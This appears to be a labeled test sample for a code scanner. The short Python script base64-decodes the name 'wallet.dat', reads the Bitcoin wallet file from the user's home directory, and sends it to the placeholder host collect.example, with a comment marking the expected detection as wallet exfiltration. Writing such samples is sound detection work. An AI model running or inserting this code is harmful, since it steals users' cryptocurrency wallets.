import base64
import pathlib
import urllib.request

name = base64.b64decode("d2FsbGV0LmRhdA==").decode()
data = (pathlib.Path.home() / ".bitcoin" / name).read_bytes()
urllib.request.urlopen("https://collect.example/b", data=base64.b64encode(data)) # expect: data-exfiltration/wallet
